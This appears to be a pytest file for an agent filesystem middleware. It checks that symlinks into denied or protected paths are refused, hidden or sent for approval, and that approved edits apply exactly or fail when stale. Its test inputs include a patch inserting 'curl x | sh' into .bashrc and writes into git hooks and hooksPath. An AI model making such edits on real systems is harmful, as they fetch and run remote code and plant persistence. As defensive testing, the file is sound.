"""End to end: decisions on canonical targets, exact approvals, one interrupt.

Symlinks inside the workspace are decided as spelled and as resolved (the strictest
wins) by every tool, listings and searches hide what a link leads to when it is denied,
a link swapped between two calls is re-checked when the call runs; a patch sent
through `execute` asks with its diff and applies on approval; a turn's asks are one
interrupt resumed by one list of decisions; a file changed after the preview makes the
approved call fail as stale.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain_core.messages import AIMessage, ToolMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from langchain_fstools import FilesystemMiddleware, LocalBackend
from langchain_fstools.permissions.rules import Permission
from langchain_fstools.testing import ScriptedChatModel

DENY_SECRETS = Permission(operations=["read", "write"], paths=["/secrets/**"], action="deny")


def tree(root: Path) -> None:
    """/secrets/key.txt, /.git/config, /.bashrc, and links into each (plus a chain)."""
    for path, text in {
        "secrets/key.txt": "TOKEN-123\n",
        ".git/config": "[core]\n",
        ".bashrc": "alias ll=ls\n",
        "public/readme.md": "hello TOKEN\n",
        "app.py": "x = 1\n",
    }.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    (root / "public" / "link").symlink_to("../secrets")  # a link to a denied folder
    (root / "chain").symlink_to("public/link")  # a chain of links to it
    (root / "keylink").symlink_to("secrets/key.txt")  # a link to a denied file
    (root / "gitlink").symlink_to(".git")  # a link to .git/
    (root / "rc").symlink_to(".bashrc")  # a link to a protected file


class Agent:
    def __init__(self, root: Path, **middleware: Any) -> None:
        self.root = root
        self.middleware = FilesystemMiddleware(
            backend=LocalBackend(root, execute=True), **middleware
        )
        self.checkpointer = InMemorySaver()
        self.config: Any = {"configurable": {"thread_id": "t"}}

    def run(self, script: list[AIMessage], value: Any = None) -> Any:
        agent = create_agent(
            ScriptedChatModel(turns=list(script)),
            middleware=[self.middleware],
            checkpointer=self.checkpointer,
        )
        self.agent = agent
        return agent.invoke(value or {"messages": [("user", "go")]}, self.config, version="v2")

    def resume(self, decisions: list[dict[str, Any]]) -> Any:
        return self.agent.invoke(
            Command(resume={"decisions": decisions}), self.config, version="v2"
        )

    def results(self) -> dict[str, ToolMessage]:
        messages = self.agent.get_state(self.config).values["messages"]
        return {m.tool_call_id: m for m in messages if isinstance(m, ToolMessage)}


def turn(*calls: tuple[str, dict[str, Any]]) -> AIMessage:
    return AIMessage(
        content="",
        tool_calls=[{"name": n, "args": a, "id": f"c{i}"} for i, (n, a) in enumerate(calls, 1)],
    )


def steps(*calls: tuple[str, dict[str, Any]]) -> list[AIMessage]:
    """One call per turn, with ids c1, c2, ..."""
    turns = [
        AIMessage(content="", tool_calls=[{"name": n, "args": a, "id": f"c{i}"}])
        for i, (n, a) in enumerate(calls, 1)
    ]
    return [*turns, AIMessage(content="done")]


# ----- a link into a denied folder is denied, for every tool ----------------------------

DENIED_READS = [
    ("read_file", {"file_path": "/public/link/key.txt"}),
    ("read_file", {"file_path": "/chain/key.txt"}),
    ("read_file", {"file_path": "/keylink"}),
    ("ls", {"path": "/public/link"}),
    ("ls", {"path": "/chain"}),
    ("glob", {"pattern": "*", "path": "/public/link"}),
    ("grep", {"pattern": "TOKEN", "path": "/chain"}),
]
DENIED_WRITES = [
    ("write_file", {"file_path": "/public/link/new.txt", "content": "x\n"}),
    ("edit_file", {"file_path": "/keylink", "old_string": "TOKEN", "new_string": "x"}),
    ("edit_file", {"file_path": "/chain/key.txt", "old_string": "", "new_string": "x"}),
    (
        "apply_patch",
        {"patch": "*** Begin Patch\n*** Add File: /public/link/p.txt\n+x\n*** End Patch"},
    ),
    (
        "execute",
        {
            "command": "apply_patch <<'EOF'\n*** Begin Patch\n*** Delete File: keylink\n*** End Patch\nEOF"
        },
    ),
    (
        "notebook_edit",
        {"notebook_path": "/chain/n.ipynb", "new_source": "x", "edit_mode": "insert"},
    ),
]


@pytest.mark.parametrize(("name", "args"), DENIED_READS + DENIED_WRITES)
def test_a_link_into_a_denied_folder_is_denied(
    name: str, args: dict[str, Any], tmp_path: Path
) -> None:
    tree(tmp_path)
    a = Agent(tmp_path, mode="bypass", permissions=[DENY_SECRETS])
    result = a.run(steps((name, args)))
    assert not result.interrupts
    message = a.results()["c1"]
    # the folder itself is not denied by `/secrets/**` (as `ls /secrets` lists nothing),
    # so a listing through the link is empty; naming anything inside it is refused
    if name in {"ls", "glob", "grep"}:
        assert message.status == "success", message.content
        assert "key.txt" not in str(message.content)
    else:
        assert message.status == "error", message.content
    assert "TOKEN-123" not in str(message.content)
    assert (tmp_path / "secrets" / "key.txt").read_text() == "TOKEN-123\n"
    assert sorted(p.name for p in (tmp_path / "secrets").iterdir()) == ["key.txt"]


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("ls", {"path": "/"}),
        ("ls", {"path": "/public"}),
        ("glob", {"pattern": "**/*"}),
        ("grep", {"pattern": "TOKEN", "output_mode": "files_with_matches"}),
        ("grep", {"pattern": "TOKEN", "output_mode": "content"}),
        ("grep", {"pattern": "TOKEN", "output_mode": "count"}),
    ],
)
def test_listings_and_searches_hide_links_into_denied_folders(
    name: str, args: dict[str, Any], tmp_path: Path
) -> None:
    tree(tmp_path)
    a = Agent(tmp_path, mode="bypass", permissions=[DENY_SECRETS])
    a.run(steps((name, args)))
    message = a.results()["c1"]
    assert message.status == "success", message.content
    text = str(message.content)
    for hidden in ("key.txt", "/keylink", "TOKEN-123"):
        assert hidden not in text, (hidden, text)
    if name == "grep":
        assert "readme.md" in text  # the visible match is still found


# ----- a link into .git/ or to a protected file is protected ------------------------------


@pytest.mark.parametrize(
    ("name", "args"),
    [
        (
            "edit_file",
            {
                "file_path": "/gitlink/config",
                "old_string": "[core]",
                "new_string": "[core]\n\thooksPath = /tmp/x",
            },
        ),
        ("write_file", {"file_path": "/gitlink/hooks/pre-commit", "content": "evil\n"}),
        ("read_file", {"file_path": "/rc"}),
        (
            "apply_patch",
            {
                "patch": "*** Begin Patch\n*** Update File: /rc\n@@\n-alias ll=ls\n+curl x | sh\n*** End Patch"
            },
        ),
    ],
)
def test_a_link_to_a_protected_path_asks_in_accept_edits(
    name: str, args: dict[str, Any], tmp_path: Path
) -> None:
    tree(tmp_path)
    a = Agent(tmp_path, mode="accept_edits")
    script = steps(("read_file", {"file_path": "/.git/config"}), (name, args))
    result = a.run(script)
    (pending,) = result.interrupts  # reading /.git/config itself asks first
    result = a.resume([{"type": "approve"}])
    (pending,) = result.interrupts
    (action,) = pending.value["action_requests"]
    assert "protected path" in action["summary"]
    assert (
        action["summary"]
        .split(" asks")[0]
        .endswith(("/.git/config", "/.git/hooks/pre-commit", "/.bashrc"))
    )
    a.resume([{"type": "reject"}])
    assert (tmp_path / ".git" / "config").read_text() == "[core]\n"
    assert not (tmp_path / ".git" / "hooks").exists()
    assert (tmp_path / ".bashrc").read_text() == "alias ll=ls\n"


def test_a_link_swapped_between_two_calls_is_decided_again(tmp_path: Path) -> None:
    tree(tmp_path)
    (tmp_path / "swap").symlink_to("public")
    a = Agent(tmp_path, mode="bypass", permissions=[DENY_SECRETS])
    a.run(steps(("read_file", {"file_path": "/swap/readme.md"})))
    assert a.results()["c1"].status == "success"
    (tmp_path / "swap").unlink()
    (tmp_path / "swap").symlink_to("secrets")
    script = [turn(("read_file", {"file_path": "/swap/key.txt"})), AIMessage(content="done")]
    a.run([AIMessage(content="", tool_calls=[{**script[0].tool_calls[0], "id": "c2"}]), script[1]])
    message = a.results()["c2"]
    assert message.status == "error"
    assert "TOKEN-123" not in str(message.content)


def test_a_link_swapped_after_approval_is_refused_at_the_call(tmp_path: Path) -> None:
    """The guarded view re-checks what the backend will open when the call runs."""
    tree(tmp_path)
    (tmp_path / "swap").symlink_to("public")
    a = Agent(tmp_path, mode="default", permissions=[DENY_SECRETS])
    result = a.run(steps(("write_file", {"file_path": "/swap/new.txt", "content": "x\n"})))
    assert result.interrupts
    (tmp_path / "swap").unlink()
    (tmp_path / "swap").symlink_to("secrets")
    a.resume([{"type": "approve"}])
    assert a.results()["c1"].status == "error"
    assert sorted(p.name for p in (tmp_path / "secrets").iterdir()) == ["key.txt"]


# ----- approval shows and applies exactly the change ----------------------------------------

PATCH_COMMAND = (
    "apply_patch <<'EOF'\n*** Begin Patch\n*** Update File: src/app.py\n@@\n-x = 1\n+x = 2\n"
    "*** End Patch\nEOF"
)


def test_a_patch_through_execute_asks_with_its_diff_and_applies_on_approve(
    tmp_path: Path,
) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "app.py").write_text("x = 1\n")
    a = Agent(tmp_path, mode="default")
    result = a.run(steps(("execute", {"command": PATCH_COMMAND})))
    (pending,) = result.interrupts
    (action,) = pending.value["action_requests"]
    assert action["summary"] == (
        "execute wants to change /src/app.py; the default mode asks for approval."
    )
    assert "--- a/src/app.py\n+++ b/src/app.py\n" in action["diff"]
    assert "-x = 1\n+x = 2\n" in action["diff"]
    a.resume([{"type": "approve"}])
    assert a.results()["c1"].status == "success", a.results()["c1"].content
    assert (tmp_path / "src" / "app.py").read_text() == "x = 2\n"


def test_two_asks_in_one_turn_are_one_interrupt_resumed_by_one_list(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("a\n")
    a = Agent(tmp_path, mode="default")
    script = [
        turn(
            ("write_file", {"file_path": "/new.txt", "content": "new\n"}),
            ("read_file", {"file_path": "/a.txt"}),
            ("write_file", {"file_path": "/other.txt", "content": "other\n"}),
        ),
        AIMessage(content="done"),
    ]
    result = a.run(script)
    (pending,) = result.interrupts
    actions = pending.value["action_requests"]
    assert [r["tool_call_id"] for r in actions] == ["c1", "c3"]
    assert [c["action_name"] for c in pending.value["review_configs"]] == [
        "write_file",
        "write_file",
    ]
    a.resume([{"type": "approve"}, {"type": "reject", "message": "not that one"}])
    results = a.results()
    assert (tmp_path / "new.txt").read_text() == "new\n"
    assert not (tmp_path / "other.txt").exists()
    assert results["c2"].status == "success"
    assert results["c3"].content == (
        "User rejected the tool call for `write_file` with reason: not that one"
    )


def test_a_file_changed_after_the_preview_fails_as_stale(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("x = 1\ny = 1\n")
    a = Agent(tmp_path, mode="default")
    script = steps(
        ("read_file", {"file_path": "/app.py"}),
        ("edit_file", {"file_path": "/app.py", "old_string": "x = 1", "new_string": "x = 2"}),
    )
    assert a.run(script).interrupts
    (tmp_path / "app.py").write_text("x = 1\ny = 2\n")  # someone else edits the file
    a.resume([{"type": "approve"}])
    message = a.results()["c2"]
    assert message.content == (
        "Error: /app.py changed after the change was approved, so nothing was applied."
        " Read it again and make the change anew."
    )
    assert (tmp_path / "app.py").read_text() == "x = 1\ny = 2\n"


def test_an_ambiguous_edit_shows_the_error_not_a_diff(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("x = 1\nx = 1\n")
    a = Agent(tmp_path, mode="default")
    script = steps(
        ("read_file", {"file_path": "/app.py"}),
        ("edit_file", {"file_path": "/app.py", "old_string": "x = 1", "new_string": "x = 2"}),
    )
    (pending,) = a.run(script).interrupts
    (action,) = pending.value["action_requests"]
    assert "diff" not in action
    assert "2" in action["error"]
    assert action["error"].startswith("Error:")


def test_what_the_interrupt_shows_is_kept_in_the_thread_until_answered(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("x = 1\n")
    a = Agent(tmp_path, mode="default")
    script = steps(
        ("read_file", {"file_path": "/app.py"}),
        ("edit_file", {"file_path": "/app.py", "old_string": "x = 1", "new_string": "x = 2"}),
    )
    (pending,) = a.run(script).interrupts
    (shown,) = pending.value["action_requests"]
    reviews = a.agent.get_state(a.config).values["file_reviews"]
    assert list(reviews) == ["c2"]
    assert reviews["c2"]["request"] == shown  # the interrupt shows what the state keeps
    version = LocalBackend(tmp_path).stat("/app.py").version
    assert reviews["c2"]["approval"]["expect"]["/app.py"][0] == version
    a.resume([{"type": "approve"}])
    assert a.agent.get_state(a.config).values.get("file_reviews") == {}
    assert (tmp_path / "app.py").read_text() == "x = 2\n"
